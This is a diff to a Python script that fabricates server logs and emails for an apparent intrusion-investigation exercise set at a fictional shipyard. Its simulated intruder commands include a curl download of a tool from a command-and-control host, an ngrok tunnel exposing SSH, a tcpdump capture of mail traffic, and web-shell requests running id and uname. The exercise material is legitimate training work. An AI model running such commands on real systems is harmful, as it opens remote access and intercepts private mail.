@@ -816,12 +816,15 @@ def write(machine, channel, path):
             )
     print(f"{path.name}: {len(events)} events")
 
+
 # The web server and those behind it, in a network of their own.
 WEB, DATABASE, PATCHES = "web-01", "db-01", "patch-01"
 WEB_ADDRESS, ADMIN_ADDRESS = "10.20.0.80", "10.20.1.5"
-# The firm that looks after the web server, and its key.
+# The firm that looks after the web server, its key, and the one that it has from the 19th.
 PROVIDER = ("wartung", "198.51.100.150", "SHA256:pUq0nZ2m9Wc4Jm1rQe7sVtX5bYhKd8LfGaRoTi3uEwM")
+NEW_KEY = "SHA256:Hq6sYd1LrVu8NwKx3TzPb0fGmJc5EaRoIi9XtQe2yWk"
 ADMIN_KEY = "SHA256:Zk3vB8tHqY1xWn6cRf0sLpJd5uGmEa9oTi2bXhVrCyQ"
+NUMBERS = {"root": 0, "j.petersen": 1000, "wartung": 1002}
 INTRUDER_KEY = "SHA256:mR7cXw2LkTz9QeVb4HnYp0sJf6GdUa1iOtKx8BhErWg"
 SHARE_ADDRESS = "203.0.113.121"
 SHARE = "https://share.talent-nord.example/d/"
@@ -852,8 +855,7 @@ class Server:
         sshd, how = f"sshd[{pid}]", "publickey" if key else "password"
         tail = f" ssh2: ED25519 {key}" if key else " ssh2"
         self.say(time, sshd, f"Accepted {how} for {account} from {address} port {port}{tail}")
-        number = {"root": 0, "wartung": 1002}.get(account, 1000)
-        opened = f"session opened for user {account}(uid={number}) by (uid=0)"
+        opened = f"session opened for user {account}(uid={NUMBERS[account]}) by (uid=0)"
         self.say(time + timedelta(milliseconds=21), sshd, f"pam_unix(sshd:session): {opened}")
         end = time + timedelta(minutes=minutes)
         self.say(end, sshd, f"Received disconnect from {address} port {port}:11: disconnected by user")
@@ -861,13 +863,12 @@ class Server:
         self.say(end + timedelta(milliseconds=2), sshd, f"pam_unix(sshd:session): session closed for user {account}")
         return pid
 
-    def sudo(self, time, account, command, folder=None):
-        folder = folder or f"/home/{account}"
-        self.say(time, "sudo", f" {account} : TTY=pts/0 ; PWD={folder} ; USER=root ; COMMAND={command}")
-        opened = f"session opened for user root(uid=0) by {account}(uid=1000)"
+    def sudo(self, time, account, command, seconds=2):
+        self.say(time, "sudo", f" {account} : TTY=pts/0 ; PWD=/home/{account} ; USER=root ; COMMAND={command}")
+        opened = f"session opened for user root(uid=0) by {account}(uid={NUMBERS[account]})"
         self.say(time + timedelta(milliseconds=4), "sudo", f"pam_unix(sudo:session): {opened}")
         closed = "pam_unix(sudo:session): session closed for user root"
-        self.say(time + timedelta(seconds=2), "sudo", closed)
+        self.say(time + timedelta(seconds=seconds), "sudo", closed)
 
     def knock(self, time):
         """Somebody on the internet tries a password or two, as somebody always does."""
@@ -906,7 +907,7 @@ def upkeep(web, database, patches):
     """What the provider and the yard's administrator do with good reason, some of which looks like the intrusion."""
     account, address, key = PROVIDER
     for day, time in ((10, "08:12:40"), (12, "09:02:11"), (17, "08:20:37"), (19, "07:31:05")):
-        web.login(moment(day, time), account, address, 38, key)
+        web.login(moment(day, time), account, address, 38, key if day < 19 else NEW_KEY)
         web.sudo(moment(day, time) + timedelta(minutes=1), account, "/usr/bin/apt-get update")
         web.sudo(moment(day, time) + timedelta(minutes=4), account, "/usr/bin/apt-get -y upgrade")
         web.sudo(moment(day, time) + timedelta(minutes=31), account, "/usr/bin/systemctl reload apache2")
@@ -919,7 +920,7 @@ def upkeep(web, database, patches):
             server.login(time, "j.petersen", ADMIN_ADDRESS, 12, ADMIN_KEY)
             server.sudo(time + timedelta(minutes=2), "j.petersen", "/usr/bin/journalctl -p warning --since yesterday")
     web.login(moment(13, "13:20:09"), "j.petersen", ADMIN_ADDRESS, 25, ADMIN_KEY)
-    web.sudo(moment(13, "13:24:50"), "j.petersen", "/usr/bin/tcpdump -ni ens18 -c 500 port 443")
+    web.sudo(moment(13, "13:24:50"), "j.petersen", "/usr/bin/tcpdump -ni ens18 -c 500 port 443", 30)
     sniff(web, moment(13, "13:24:50"), 0.5)
 
 
@@ -930,12 +931,12 @@ def sniff(server, time, minutes):
 
 
 TOOL = "/wp-content/themes/strand/inc/agent.tgz"
-# What is typed at night on the web server, each through sudo.
+# What is typed at night on the web server, each through sudo, and for how many seconds it runs.
 NIGHT = [
-    ("02:01:40.318", f"/usr/bin/curl -fsS -o /var/tmp/agent.tgz https://{C2[0]}{TOOL}"),
-    ("02:02:31.902", "/usr/bin/tar -xzf /var/tmp/agent.tgz -C /usr/local/sbin"),
-    ("02:03:05.447", "/usr/local/sbin/ngrok tcp 22 --log /dev/null"),
-    ("02:09:44.120", "/usr/bin/tcpdump -i ens18 -w /var/tmp/s.pcap port 143 or port 25"),
+    ("02:01:40.318", f"/usr/bin/curl -fsS -o /var/tmp/agent.tgz https://{C2[0]}{TOOL}", 1),
+    ("02:02:31.902", "/usr/bin/tar -xzf /var/tmp/agent.tgz -C /usr/local/sbin", 2),
+    ("02:03:05.447", "/usr/local/sbin/ngrok tcp 22 --log /dev/null", 2940),
+    ("02:09:44.120", "/usr/bin/tcpdump -i ens18 -w /var/tmp/s.pcap port 143 or port 25", 1860),
 ]
 
 
@@ -945,12 +946,16 @@ def night(web, database, patches):
     sshd = "sshd[41206]"
     where = f"host={C2[1]}, ip={C2[1]}, required={address}"
     refused = f"correct key but not from a permitted host ({where})."
-    web.say(moment(18, "01:47:31.207"), sshd, f"/home/{account}/.ssh/authorized_keys:1: Authentication tried for {account} with {refused}")
+    web.say(
+        moment(18, "01:47:31.207"),
+        sshd,
+        f"/home/{account}/.ssh/authorized_keys:1: Authentication tried for {account} with {refused}",
+    )
     closed = f"Connection closed by authenticating user {account} {C2[1]} port 51622 [preauth]"
     web.say(moment(18, "01:47:33.690"), sshd, closed)
     pid = web.login(moment(18, "01:58:12.731"), account, address, 54, key)
-    for time, command in NIGHT:
-        web.sudo(moment(18, time), account, command)
+    for time, command, seconds in NIGHT:
+        web.sudo(moment(18, time), account, command, seconds)
     sniff(web, moment(18, "02:09:44.120"), 31)
     database.login(moment(18, "02:14:20.552"), account, WEB_ADDRESS, 2)
     patches.login(moment(18, "02:17:02.084"), account, WEB_ADDRESS, 9)
@@ -974,7 +979,9 @@ class Audit:
         self.serial += 1
         kind = {"open": "USER_START", "close": "USER_END"}[state]
         ends = f'acct="{account}" exe="/usr/sbin/sshd" hostname={address} addr={address} terminal=ssh res=success'
-        self.record(time, kind, f"pid={pid} uid=0 auid=1002 ses={number} msg='op=PAM:session_{state} grantors=pam_unix {ends}'")
+        self.record(
+            time, kind, f"pid={pid} uid=0 auid=1002 ses={number} msg='op=PAM:session_{state} grantors=pam_unix {ends}'"
+        )
 
     def run(self, time, parent, number, command):
         self.serial += 1
@@ -996,11 +1003,15 @@ def audited(rng, pid):
     """The provider's session on the 17th, and the intruder's in the night after it."""
     audit = Audit(rng)
     audit.session(moment(17, "08:20:37.021"), 22_318, 611, "open")
-    for minute, command in ((1, "/usr/bin/apt-get update"), (4, "/usr/bin/apt-get -y upgrade"), (31, "/usr/bin/systemctl reload apache2")):
+    for minute, command in (
+        (1, "/usr/bin/apt-get update"),
+        (4, "/usr/bin/apt-get -y upgrade"),
+        (31, "/usr/bin/systemctl reload apache2"),
+    ):
         audit.run(moment(17, "08:20:37.0") + timedelta(minutes=minute), 22_340, 611, command)
     audit.session(moment(17, "08:58:37.002"), 22_318, 611, "close")
     audit.session(moment(18, "01:58:12.752"), pid, 624, "open")
-    for time, command in NIGHT:
+    for time, command, _ in NIGHT:
         audit.run(moment(18, time) + timedelta(milliseconds=6), pid + 31, 624, command)
     audit.session(moment(18, "02:52:12.733"), pid, 624, "close")
     return audit.lines
@@ -1011,7 +1022,7 @@ PAGES += ["/wp-content/uploads/2026/10/stapellauf.jpg", "/presse/", "/impressum/
 
 
 class Site:
-    """The access log of www.nordwerft.example, each line with the virtual host before it."""
+    """The access log of the yard's web site, each line with the name of the server before it."""
 
     def __init__(self, rng):
         self.rng, self.lines = rng, []
@@ -1019,7 +1030,7 @@ class Site:
     def ask(self, time, address, request, status=200, size=0, referer="-", agent=FIREFOX):
         stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000")
         size = size or self.rng.randrange(400, 30_000)
-        line = f'www.nordwerft.example:443 {address} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
+        line = f'web-01.nordwerft.example:443 {address} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
         self.lines.append((time, line))
 
     def visitors(self):
@@ -1028,10 +1039,18 @@ class Site:
             time = moment(20, "00:00:00") + timedelta(seconds=self.rng.randrange(2 * 86_400))
             address = f"198.51.100.{self.rng.randrange(2, 140)}"
             page = self.rng.choice(PAGES)
-            self.ask(time, address, f"GET {page}", 200, 0, "https://www.nordwerft.example/", self.rng.choice([FIREFOX, EDGE]))
-        for day, time, address in ((20, "10:14:22", "198.51.100.33"), (20, "18:40:09", "198.51.100.118"), (21, "09:55:41", "198.51.100.61")):
+            self.ask(
+                time, address, f"GET {page}", 200, 0, "https://www.nordwerft.example/", self.rng.choice([FIREFOX, EDGE])
+            )
+        for day, time, address in (
+            (20, "10:14:22", "198.51.100.33"),
+            (20, "18:40:09", "198.51.100.118"),
+            (21, "09:55:41", "198.51.100.61"),
+        ):
             form = "https://www.nordwerft.example/karriere/"
-            self.ask(moment(day, time), address, "POST /wp-admin/admin-ajax.php?action=bewerbung_upload", 200, 41, form, EDGE)
+            self.ask(
+                moment(day, time), address, "POST /wp-admin/admin-ajax.php?action=bewerbung_upload", 200, 41, form, EDGE
+            )
             self.ask(moment(day, time) + timedelta(seconds=2), address, "GET /karriere/danke/", 200, 0, form, EDGE)
 
     def shell(self):
@@ -1041,7 +1060,9 @@ class Site:
         upload = "POST /wp-admin/admin-ajax.php?action=bewerbung_upload"
         self.ask(begin + timedelta(seconds=51), SHARE_ADDRESS, upload, 200, 41, "-", STALE_EDGE)
         for second, query in ((64, "id"), (90, "uname+-a")):
-            self.ask(begin + timedelta(seconds=second), SHARE_ADDRESS, f"GET {script}?cmd={query}", 200, 118, "-", STALE_EDGE)
+            self.ask(
+                begin + timedelta(seconds=second), SHARE_ADDRESS, f"GET {script}?cmd={query}", 200, 118, "-", STALE_EDGE
+            )
         for number in range(14):
             time = begin + timedelta(seconds=200 + 190 * number + self.rng.randrange(60))
             self.ask(time, SHARE_ADDRESS, f"POST {script}", 200, self.rng.randrange(90, 700), "-", STALE_EDGE)
@@ -1093,8 +1114,8 @@ def mails(folder):
         "Talent_Nord_Overview.pdf",
     )
     mail(
-        folder / "2026-11-17-datasheet.eml",
-        moment(17, "09:41:12"),
+        folder / "2026-11-16-datasheet.eml",
+        moment(16, "14:12:40"),
         ("Wellenlager Brandt", "vertrieb@wellenlager-brandt.example"),
         keller,
         "Datenblatt Wellenlager WL-220",
